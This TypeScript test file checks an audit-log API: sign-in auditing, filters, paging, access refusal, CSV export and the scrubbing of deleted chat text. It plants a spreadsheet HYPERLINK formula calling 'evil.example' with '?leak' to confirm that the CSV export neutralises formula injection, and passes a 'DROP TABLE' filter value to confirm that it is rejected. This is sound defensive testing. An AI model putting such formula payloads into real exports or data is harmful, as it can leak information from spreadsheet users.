import assert from 'node:assert/strict';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { and, eq, sql } from 'drizzle-orm';
import { chatMessages, events } from '../../src/server/db/schema.ts';
import {
  AGENDA,
  DIALOGUE_2020,
  DIALOGUE_2020_ID,
  PARTICIPANTS,
  STATEMENTS,
} from '../../src/server/demo/dialogue-2020.ts';
import { orgId, personId } from '../../src/server/demo/directory-data.ts';
import type { AuditEntry, AuditPage } from '../../src/shared/contracts/audit.ts';
import type { ChatMessage } from '../../src/shared/live/room.ts';
import { ml } from '../../src/shared/multilingual.ts';
import { startTestApp, PASSWORD, type Client, type TestApp } from '../support/app.ts';
import { BACKENDS } from '../support/databases.ts';
import { holdNow, liveClient } from '../support/live-client.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?leak","Open me")';

for (const backend of BACKENDS) {
  describe(`the audit log: who did what and when, for the secretariat only (${backend})`, () => {
    let t: TestApp;
    const ids: Record<string, string> = {};
    let dialogueId = '';
    const startedAt = new Date(Date.now() - 1_000).toISOString();

    const admin = async (method: string, url: string, body?: unknown, status = method === 'POST' ? 201 : 200) => {
      const res = await t.call(method, url, { as: 'admin', body });
      assert.equal(res.statusCode, status, `${method} ${url} → ${res.body.slice(0, 300)}`);
      return res.statusCode === 204 ? null : res.json();
    };
    const audit = async (query = '', as: 'admin' | Client = 'admin'): Promise<AuditPage> => {
      const res = await t.call('GET', `/api/v1/audit${query}`, { as });
      assert.equal(res.statusCode, 200, res.body);
      assert.equal(res.headers['cache-control'], 'no-store');
      return res.json();
    };
    const whoAmI = async (as: Client | 'admin' | 'member' | 'participant' | 'moderator') =>
      (await t.call('GET', '/api/v1/session', { as })).json().user.id as string;
    const signIn = (email: string, password: string) =>
      t.fastify.inject({ method: 'POST', url: '/api/v1/session', payload: { email, password } });

    before(async () => {
      t = await startTestApp(backend);
      for (const role of ['admin', 'member', 'participant', 'moderator'] as const) ids[role] = await whoAmI(role);

      // A write: a dialogue under the Chatham House Rule, its title a planted formula.
      dialogueId = (
        await admin('POST', '/api/v1/dialogues', {
          ...DIALOGUE_2020,
          title: ml({ en: FORMULA }),
          confidentiality: 'chatham_house',
          status: 'concluded',
        })
      ).id;
      const { key: _p, ...participant } = PARTICIPANTS.find((p) => p.key === 'norov')!;
      const speakerId = (await admin('POST', `/api/v1/dialogues/${dialogueId}/participants`, participant)).id;
      const statement = STATEMENTS[0]!;
      const { key: _a, ...item } = AGENDA.find((a) => a.key === statement.agendaKey)!;
      const agendaItemId = (await admin('POST', `/api/v1/dialogues/${dialogueId}/agenda-items`, item)).id;
      await admin('POST', `/api/v1/dialogues/${dialogueId}/statements`, {
        ...statement,
        agendaKey: undefined,
        agendaItemId,
        speaker: { kind: 'participant', participantId: speakerId },
      });
      // A clearance step.
      const queue = await admin('GET', `/api/v1/dialogues/${dialogueId}/clearances`);
      for (const c of queue.items)
        await admin(
          'POST',
          `/api/v1/dialogues/${dialogueId}/clearances/${c.kind}/${c.id}`,
          { version: c.version, languages: Object.keys(c.text.texts), text: c.suggestion },
          200,
        );
      // Publication steps.
      const p = await admin('POST', `/api/v1/dialogues/${dialogueId}/publications`, {
        kind: 'summary',
        language: 'en',
      });
      await admin(
        'POST',
        `/api/v1/dialogues/${dialogueId}/publications/${p.id}/status`,
        { to: 'in_review', version: p.version },
        200,
      );
      // An account the secretariat opens, then a role change.
      const opened = await admin('POST', '/api/v1/users', {
        email: 'clerk@audit.example',
        password: PASSWORD,
        role: 'member',
      });
      ids.clerk = opened.id;
      const account = (await admin('GET', '/api/v1/users?q=clerk%40audit.example')).items[0];
      await admin('PATCH', `/api/v1/users/${opened.id}`, { version: account.version, role: 'admin' });
      // A membership change.
      await admin('POST', `/api/v1/organizations/${orgId('kaziss')}/memberships`, {
        personId: personId('niss-tj'),
        role: 'member',
      });
      // Sign-ins: a success, a sign-out, failures for a known and for an unknown e-mail.
      const ok = await signIn('clerk@audit.example', PASSWORD);
      assert.equal(ok.statusCode, 201, ok.body);
      const cookie = ok.cookies.find((c) => c.name === 'ed_session')!;
      const clerk: Client = { role: 'admin', cookie: `ed_session=${cookie.value}`, csrf: ok.json().csrfToken };
      assert.equal((await t.call('DELETE', '/api/v1/session', { as: clerk })).statusCode, 204);
    });
    after(async () => t.close());

    test('a failed sign-in answers the same for an unknown and a known e-mail, and both are recorded alike', async () => {
      const known = await signIn('member@test.example', 'not the password');
      const unknown = await signIn('nobody-here@test.example', 'not the password');
      assert.equal(known.statusCode, unknown.statusCode);
      assert.equal(known.statusCode, 401);
      assert.deepEqual(known.json(), unknown.json());
      assert.deepEqual(Object.keys(known.headers).sort(), Object.keys(unknown.headers).sort());

      const failed = (await audit('?kind=session.failed')).items;
      const byEmail = (email: string) => failed.find((e) => e.summary.includes(`email=${email}`));
      const [k, u] = [byEmail('member@test.example'), byEmail('nobody-here@test.example')];
      assert.ok(k && u, JSON.stringify(failed));
      assert.equal(k.actor, null, 'nobody is named for a failure');
      assert.equal(u.actor, null);
      assert.equal(k.summary.replace('member@test.example', 'X'), u.summary.replace('nobody-here@test.example', 'X'));
    });

    test('each kind of step appears with its actor', async () => {
      const all: AuditEntry[] = [];
      for (let before: number | null | undefined; before !== null;) {
        const page = await audit(`?limit=100${before ? `&before=${before}` : ''}`);
        all.push(...page.items);
        before = page.next;
      }
      const find = (type: string, actor: string | null) => {
        const e = all.find((x) => x.type === type && (x.actor?.id ?? null) === actor);
        assert.ok(e, `${type} by ${actor}: ${JSON.stringify(all.map((x) => [x.type, x.actor?.email]))}`);
        return e;
      };
      const created = find('dialogue.created', ids.admin!);
      assert.equal(created.actor!.email, 'admin@test.example');
      assert.deepEqual(created.dialogue, { id: dialogueId, title: ml({ en: FORMULA }) });
      find('participant.created', ids.admin!);
      find('statement.created', ids.admin!);
      find('statement.cleared', ids.admin!);
      find('publication.created', ids.admin!);
      assert.match(find('publication.status_changed', ids.admin!).summary, /to=in_review/);
      assert.match(find('user.created', ids.admin!).summary, /clerk@audit\.example/);
      assert.match(find('user.role_changed', ids.admin!).summary, /role: member → admin/);
      find('membership.added', ids.admin!);
      assert.match(find('session.created', ids.clerk!).summary, /how=password/);
      assert.match(find('session.ended', ids.clerk!).summary, /reason=signed_out/);
      find('session.created', ids.member!);
      find('session.failed', null);
      // Newest first, by id.
      assert.deepEqual(
        all.map((e) => e.id),
        all.map((e) => e.id).sort((a, b) => b - a),
      );
    });

    test('filters narrow as they say', async () => {
      const mine = (await audit(`?user=${ids.clerk}&limit=100`)).items;
      assert.ok(mine.length >= 2);
      assert.ok(mine.every((e) => e.actor?.id === ids.clerk));

      const ofDialogue = (await audit(`?dialogue=${dialogueId}&limit=100`)).items;
      assert.ok(ofDialogue.length >= 5);
      assert.ok(ofDialogue.every((e) => e.dialogue?.id === dialogueId));

      const sessions = (await audit('?kind=session.&limit=100')).items;
      assert.deepEqual(
        new Set(sessions.map((e) => e.type)),
        new Set(['session.created', 'session.ended', 'session.failed']),
      );
      const roles = (await audit('?kind=user.role_changed')).items;
      assert.deepEqual(new Set(roles.map((e) => e.type)), new Set(['user.role_changed']));
      assert.equal((await audit('?kind=membership.')).items[0]?.type, 'membership.added');

      const future = new Date(Date.now() + 3_600_000).toISOString();
      assert.deepEqual((await audit(`?from=${encodeURIComponent(future)}`)).items, []);
      assert.deepEqual((await audit('?to=2001-01-01T00:00:00Z')).items, []);
      const since = (await audit(`?from=${encodeURIComponent(startedAt)}&to=${encodeURIComponent(future)}&limit=100`))
        .items;
      assert.ok(since.length > 0 && since.every((e) => e.at >= startedAt && e.at <= future));

      const both = (await audit(`?user=${ids.admin}&dialogue=${dialogueId}&kind=statement.&limit=100`)).items;
      assert.deepEqual(new Set(both.map((e) => e.type)), new Set(['statement.created', 'statement.cleared']));
    });

    test('paging is stable: pages of a filter neither skip nor repeat while new events arrive', async () => {
      const whole = (await audit('?limit=100')).items;
      const paged: AuditEntry[] = [];
      let before: number | null = null;
      do {
        const page: AuditPage = await audit(`?limit=7${before ? `&before=${before}` : ''}`);
        paged.push(...page.items);
        before = page.next;
        // Something happens meanwhile: a new event must not shift the pages.
        await signIn('nobody-here@test.example', `attempt ${paged.length}`);
      } while (before !== null && paged.length < whole.length);
      assert.deepEqual(
        paged.slice(0, whole.length).map((e) => e.id),
        whole.map((e) => e.id),
      );
    });

    test('anonymous callers and members are refused and learn nothing', async () => {
      for (const role of ['anonymous', 'member', 'participant', 'moderator'] as const) {
        for (const url of ['/api/v1/audit', '/api/v1/audit.csv', '/api/v1/audit?from=nonsense']) {
          const res = await t.call('GET', url, { as: role });
          assert.equal(res.statusCode, role === 'anonymous' ? 401 : 403, `${role} ${url}`);
          assert.doesNotMatch(res.body, /session\.|@test\.example|from/, `${role} ${url}: ${res.body}`);
        }
      }
    });

    test('bad filters answer 400 naming the field', async () => {
      for (const [query, field] of [
        ['?from=yesterday', 'query.from'],
        ['?to=2026-13-01T00:00:00Z', 'query.to'],
        ['?from=2026-06-02T00:00:00Z&to=2026-06-01T00:00:00Z', 'query.to'],
        ['?user=someone', 'query.user'],
        ['?dialogue=42', 'query.dialogue'],
        ['?kind=DROP%20TABLE', 'query.kind'],
        ['?before=abc', 'query.before'],
        ['?limit=100000', 'query.limit'],
        ['?colour=red', 'query.colour'],
      ] as const) {
        for (const path of ['/api/v1/audit', '/api/v1/audit.csv']) {
          if (path.endsWith('.csv') && /before|limit/.test(query)) continue;
          const res = await t.call('GET', `${path}${query}`, { as: 'admin' });
          assert.equal(res.statusCode, 400, `${path}${query}: ${res.body}`);
          assert.ok(
            res.json().errors.some((e: { path: string }) => e.path === field),
            `${path}${query} names ${field}: ${res.body}`,
          );
        }
      }
    });

    test('the CSV holds the same filtered list and neutralises a formula planted in a dialogue title', async () => {
      const res = await t.call('GET', `/api/v1/audit.csv?dialogue=${dialogueId}`, { as: 'admin' });
      assert.equal(res.statusCode, 200, res.body);
      assert.match(String(res.headers['content-type']), /^text\/csv/);
      assert.equal(res.headers['cache-control'], 'no-store');
      const lines = res.body
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n');
      assert.equal(lines[0], 'id,at,actor_id,actor_email,type,dialogue_id,dialogue_title,summary');
      const listed = (await audit(`?dialogue=${dialogueId}&limit=100`)).items;
      assert.deepEqual(
        lines.slice(1).map((l) => Number(l.split(',')[0])),
        listed.map((e) => e.id),
      );
      assert.ok(res.body.includes(`"'=HYPERLINK(""http://evil.example/?leak"",""Open me"")"`), res.body.slice(0, 600));
      assert.ok(!/(^|,)=HYPERLINK/m.test(res.body), 'no cell starts with the formula');
    });
  });

  describe(`deleting a chat message scrubs its text from the stored event (${backend})`, () => {
    let t: TestApp;
    let url = '';
    before(async () => {
      t = await startTestApp(backend);
      await t.fastify.listen({ port: 0, host: '127.0.0.1' });
      url = `ws://127.0.0.1:${(t.fastify.server.address() as AddressInfo).port}/api/v1/live`;
      await holdNow(t, DIALOGUE_2020_ID); // the room takes chat only inside its window
    });
    after(async () => t.close());

    test('the payload holds no text, and a client resuming from before the message gets a tombstone', async () => {
      const D = DIALOGUE_2020_ID;
      const TEXT = 'a remark the moderator removes: call me on +7 700 000 00 00';
      const mod = await liveClient(url, t.clients.moderator);
      const kz = await liveClient(url, t.clients.participant);
      const snap = await mod.subscribe(D);
      assert.equal(snap.type, 'snapshot');
      const from = snap.type === 'snapshot' ? snap.seq : 0;
      await kz.subscribe(D);
      const posted = await kz.act({ type: 'chat.post', dialogueId: D, text: TEXT });
      assert.equal(posted.type, 'ack', JSON.stringify(posted));
      await mod.until(() => mod.events().some((e) => e.event === 'chat.posted'), 'the message');
      const message = mod.events().find((e) => e.event === 'chat.posted')!.payload as ChatMessage;
      assert.equal(message.text, TEXT, 'the room saw it before it was deleted');
      const deleted = await mod.act({ type: 'chat.delete', dialogueId: D, messageId: message.id });
      assert.equal(deleted.type, 'ack', JSON.stringify(deleted));

      const stored = await t.database.db
        .select({ type: events.type, payload: events.payload, actorId: events.actorId })
        .from(events)
        .where(and(eq(events.stream, D), sql`${events.payload}->>'id' = ${message.id}`));
      const postedEvent = stored.find((e) => e.type === 'chat.posted')!;
      assert.equal(
        postedEvent.actorId,
        await (async () => (await t.call('GET', '/api/v1/session', { as: 'participant' })).json().user.id)(),
      );
      const tombstone = postedEvent.payload as Record<string, unknown>;
      assert.equal(tombstone.deleted, true);
      assert.equal(tombstone.id, message.id);
      assert.equal(typeof tombstone.by, 'string');
      assert.equal(typeof tombstone.at, 'string');
      assert.equal(tombstone.text, undefined);
      assert.ok(!JSON.stringify(stored).includes('moderator removes'), 'no event holds the text');
      const [row] = await t.database.db.select().from(chatMessages).where(eq(chatMessages.id, message.id));
      assert.ok(row!.deletedAt);
      assert.equal(row!.text, '', 'nor does the message row');

      const late = await liveClient(url, t.clients.admin);
      assert.equal((await late.subscribe(D, from)).type, 'resumed');
      await late.until(() => late.events().some((e) => e.event === 'chat.deleted'), 'the deletion');
      const replayed = late.events().find((e) => e.event === 'chat.posted');
      assert.ok(replayed, 'the posting is replayed, as a tombstone');
      assert.deepEqual(replayed.payload, tombstone);
      assert.ok(
        !JSON.stringify(late.received).includes('moderator removes'),
        'the resuming client never gets the text',
      );

      const entries = (await t.call('GET', `/api/v1/audit?dialogue=${D}&kind=chat.`, { as: 'admin' })).json().items;
      assert.deepEqual(
        entries.map((e: AuditEntry) => e.type),
        ['chat.deleted', 'chat.posted'],
      );
      assert.match(entries[1].summary, /^deleted by /);
      for (const c of [mod, kz, late]) c.close();
    });
  });
}
